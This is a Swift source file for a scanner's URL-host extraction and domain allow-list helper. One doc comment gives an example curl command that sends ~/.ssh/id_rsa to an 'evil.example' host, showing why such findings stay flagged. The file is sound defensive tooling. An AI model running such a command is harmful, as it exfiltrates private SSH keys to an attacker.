/// Pulls the host names of `scheme://host` URLs out of a finding's text, in one pass.
///
/// Used by `allow.domains`: a finding is allow-listed only when it names at least one URL and
/// every URL it names is on an allowed host, so `curl https://ok.example -d @~/.ssh/id_rsa
/// https://evil.example` stays active when only `ok.example` is allowed.
public enum URLHosts {
  /// Lower-cased hosts of every `scheme://` URL in `text`, in order.
  public static func hosts(in text: String) -> [String] {
    let b = Array(text.utf8)
    var hosts: [String] = []
    var i = 0
    while i + 2 < b.count {
      guard b[i] == UInt8(ascii: ":"), b[i + 1] == UInt8(ascii: "/"), b[i + 2] == UInt8(ascii: "/"),
        i > 0, isSchemeByte(b[i - 1])
      else {
        i += 1
        continue
      }
      var start = i + 3
      var end = start
      while end < b.count, !isHostTerminator(b[end]) {
        if b[end] == UInt8(ascii: "@") { start = end + 1 }  // userinfo
        end += 1
      }
      let host = normalised(String(decoding: b[start..<end], as: UTF8.self))
      if !host.isEmpty { hosts.append(host) }
      i = end
    }
    return hosts
  }

  /// A host as compared: lower case, without port, brackets or a trailing dot.
  public static func normalised(_ host: String) -> String {
    var text = host.lowercased()
    if text.hasPrefix("["), let close = text.firstIndex(of: "]") {
      return String(text[text.index(after: text.startIndex)..<close])
    }
    if let colon = text.firstIndex(of: ":") { text = String(text[..<colon]) }
    while text.hasSuffix(".") { text.removeLast() }
    return text
  }

  /// Whether `host` is `domain` or one of its subdomains.
  public static func host(_ host: String, isWithin domain: String) -> Bool {
    host == domain || host.hasSuffix("." + domain)
  }

  private static func isSchemeByte(_ c: UInt8) -> Bool {
    (c >= 0x61 && c <= 0x7A) || (c >= 0x41 && c <= 0x5A) || (c >= 0x30 && c <= 0x39) || c == 0x2B || c == 0x2D || c == 0x2E
  }

  private static func isHostTerminator(_ c: UInt8) -> Bool {
    switch c {
    case UInt8(ascii: "/"), UInt8(ascii: "?"), UInt8(ascii: "#"), UInt8(ascii: "\\"), UInt8(ascii: "\""),
      UInt8(ascii: "'"), UInt8(ascii: "`"), UInt8(ascii: "<"), UInt8(ascii: ">"), UInt8(ascii: "("),
      UInt8(ascii: ")"), UInt8(ascii: "["), UInt8(ascii: "]"), UInt8(ascii: "{"), UInt8(ascii: "}"),
      UInt8(ascii: "|"), UInt8(ascii: ";"), UInt8(ascii: ","):
      return true
    default:
      return c <= 0x20 || c == 0x7F
    }
  }
}
